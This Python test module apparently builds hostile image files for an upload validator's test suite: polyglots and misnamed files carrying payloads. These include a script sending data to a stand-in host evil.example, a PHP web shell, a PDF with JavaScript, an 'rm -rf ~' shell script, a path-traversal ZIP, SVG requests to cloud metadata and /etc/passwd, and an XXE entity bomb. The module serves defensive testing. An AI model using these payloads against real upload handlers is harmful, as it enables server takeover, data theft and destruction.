"""Files that are two things at once, or another thing than their name says."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Iterator

from PIL import Image
from PIL.PngImagePlugin import PngInfo

from tests.hostile.building import MARK, File, bmp, chunk, encoded, gif, grey_tiff, noise, png, riff, vp8x
from tests.hostile.formats import two_pictures, whole

SCRIPT = b"<script>fetch('//evil.example/" + MARK + b"')</script>"
HTML = b"<!DOCTYPE html><html><body onload=alert(1)>" + SCRIPT + b"</body></html>"
PHP = b"<?php system($_GET['c']); /* " + MARK + b" */ ?>"
PDF = b"%PDF-1.7\n% " + MARK + b"\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<<>>\n%%EOF"
SHELL = b"#!/bin/sh\n# " + MARK + b"\nrm -rf ~\n"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><!-- " + MARK + b" -->%s</svg>"


def zipped() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("../" + MARK.decode() + ".sh", SHELL)
    return buffer.getvalue()


PAYLOADS = {"HTML": HTML, "PHP": PHP, "PDF": PDF, "ZIP": zipped(), "shell": SHELL, "script": SCRIPT}


def pictures_with_a_payload() -> Iterator[File]:
    """Good pictures with something else inside, which have to be taken, or refused, and never passed on."""
    for name, payload in PAYLOADS.items():
        for kind in ("PNG RGB", "JPEG RGB", "GIF P", "BMP RGB", "WEBP RGB", "TIFF RGB"):
            yield File(f"{kind} and then {name}", whole()[kind] + payload, True)
        yield File(f"PNG with {name} in a text", png(chunk(b"tEXt", b"Comment\0" + payload)), True)
        yield File(f"PNG with {name} in a chunk of its own", png(chunk(b"evIl", payload)), True)
        yield File(f"JPEG with {name} in its comment", encoded(noise("RGB"), "JPEG", comment=payload), True)
        yield File(f"GIF with {name} in its comment", gif(before=_gif_comment(payload)), True)
        yield File(f"BMP with {name} before its pixels", _bmp_with(payload), True)
        yield File(f"TIFF with {name} in its description", encoded(noise("RGB"), "TIFF", description=payload), True)
    for what in ("xmp", "exif"):
        value = b"Exif\0\0" + HTML if what == "exif" else HTML
        yield File(f"JPEG with HTML as {what}", encoded(noise("RGB"), "JPEG", **{what: value}), True)
        yield File(f"WEBP with HTML as {what}", encoded(noise("RGB"), "WEBP", **{what: value}), True)
        yield File(f"PNG with HTML as {what}", encoded(noise("RGB"), "PNG", **_in_png(what, value)), True)
    yield File("photo with a second picture", two_pictures() + SCRIPT, True)
    yield File("GIF that is JavaScript", _gif_that_is_a_script(), None)
    yield File("PNG with words in its palette", _in_the_palette(), True)


def _in_png(what: str, value: bytes) -> dict[str, object]:
    if what == "exif":
        return {"exif": value}
    text = PngInfo()
    text.add_itxt("XML:com.adobe.xmp", value.decode())
    return {"pnginfo": text}


def _gif_comment(payload: bytes) -> bytes:
    parts = [payload[start : start + 255] for start in range(0, len(payload), 255)]
    return b"\x21\xfe" + b"".join(bytes([len(part)]) + part for part in parts) + b"\0"


def _bmp_with(payload: bytes) -> bytes:
    data = bytearray(bmp(40, 30, 24, 0, bytes(40 * 30 * 3)))
    (at,) = struct.unpack_from("<I", data, 10)
    data[10:14] = struct.pack("<I", at + len(payload))
    return bytes(data[:at] + payload + data[at:])


def _gif_that_is_a_script() -> bytes:
    """Its width is `/*`, so that all up to the comment's end is none of the script."""
    (width,) = struct.unpack("<H", b"/*")
    return gif((width, 30), before=_gif_comment(b"*/=1;" + SCRIPT + b"/*")) + b"*/"


def _in_the_palette() -> bytes:
    image = Image.new("P", (40, 30))
    image.putpalette((SCRIPT * 20)[:768])
    return encoded(image)


def named_as_pictures() -> Iterator[File]:
    """Things that are no picture at all, whatever they begin with; none of them is taken."""
    for name, payload in PAYLOADS.items():
        yield File(f"{name} named .png", payload, False)
        for sign in (b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0", b"GIF89a", b"BM", b"II*\0"):
            yield File(f"{name} behind {sign[:6]!r}", sign + payload, False)
    for name, inside in SVG_TRICKS.items():
        yield File(f"SVG with {name}", SVG % inside, False)
    jpeg = encoded(noise("RGB"), "JPEG")
    yield File("JPEG behind a PDF", PDF + jpeg, False)
    yield File("JPEG behind a blank", b" " + jpeg, False)
    yield File("PNG in base64", b"data:image/png;base64,iVBORw0KGgo=", False)
    yield File("PNG in a ZIP", zipped() + png(), False)
    yield File("XML with entities", ENTITIES, False)
    yield File("WEBP of HTML", riff(vp8x(40, 30), (b"VP8 ", HTML)), False)
    # At this place stands what names a Photo CD, so that another reader would take it for one.
    yield File("TIFF that is a Photo CD", grey_tiff(data=(bytes(2048 - 122) + b"PCD_IPI").ljust(5_000, b"\0")), True)


SVG_TRICKS = {
    "a script": SCRIPT,
    "a picture from elsewhere": b"<image href='http://169.254.169.254/latest/meta-data'/>",
    "a file": b"<image href='file:///etc/passwd'/>",
    "a frame": b"<foreignObject><iframe src='javascript:alert(1)'/></foreignObject>",
    "a handler": b"<g onload='alert(1)'/>",
    "a million uses": b"<g id='a'><use href='#a'/><use href='#a'/></g>",
}
ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "&a;&a;&a;&a;">]>'
    b"<svg xmlns='http://www.w3.org/2000/svg'><text>&b;</text></svg>"
)
